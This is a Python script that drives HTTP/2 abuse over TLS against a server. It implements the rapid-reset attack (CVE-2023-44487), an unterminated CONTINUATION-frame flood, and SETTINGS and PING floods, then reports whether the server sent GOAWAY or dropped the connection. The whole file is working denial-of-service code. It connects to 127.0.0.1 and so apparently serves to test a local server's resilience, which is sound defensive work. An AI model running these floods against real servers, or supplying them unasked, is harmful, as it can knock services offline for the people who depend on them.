#!/usr/bin/env python3
"""HTTP/2 abuse over TLS with ALPN h2, N times as fast as it can:
  rapid-reset   HEADERS then RST_STREAM(CANCEL), stream after stream (CVE-2023-44487)
  continuation  one HEADERS without END_HEADERS, then CONTINUATION frames that never end it
  settings      SETTINGS frames
  ping          PING frames
Prints "sent S goaway G closed C": frames (or streams) sent, whether the server sent GOAWAY,
whether it closed the connection, and "error E" with GOAWAY's error code.
Usage: h2_abuse.py MODE PORT HOST N"""
import socket, ssl, struct, sys

mode, port, host, n = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])


def frame(t, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([t, flags]) + struct.pack(">I", sid) + payload


# HPACK without Huffman: :method GET (2), :scheme https (7), :path / (4), :authority literal.
a = host.encode()
block = bytes([0x82, 0x87, 0x84, 0x41, len(a)]) + a
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
ctx.set_alpn_protocols(["h2"])
s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname=host)
assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
sent, closed = 0, False
try:
    if mode == "continuation":
        s.sendall(frame(1, 0x1, 1, block))
    for i in range(n):
        if mode == "rapid-reset":
            sid = 1 + 2 * i
            s.sendall(frame(1, 0x5, sid, block) + frame(3, 0, sid, struct.pack(">I", 8)))
        elif mode == "continuation":
            # A literal header without indexing, a byte of it per frame.
            s.sendall(frame(9, 0, 1, b"\x00" if i == 0 else b"a"))
        elif mode == "settings":
            s.sendall(frame(4, 0, 0))
        elif mode == "ping":
            s.sendall(frame(6, 0, 0, struct.pack(">Q", i)))
        else:
            sys.exit(f"unknown mode {mode}")
        sent += 1
except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
    closed = True
buf = b""
s.settimeout(3)
try:
    while True:
        d = s.recv(65536)
        if not d:
            closed = True
            break
        buf += d
except (socket.timeout, ConnectionResetError, ssl.SSLError, OSError):
    pass
goaway, error, i = False, None, 0
while i + 9 <= len(buf):
    ln, t = int.from_bytes(buf[i:i + 3], "big"), buf[i + 3]
    if t == 7:
        goaway = True
        error = int.from_bytes(buf[i + 13:i + 17], "big")
    i += 9 + ln
print(f"sent {sent} goaway {goaway} closed {closed} error {error}", flush=True)
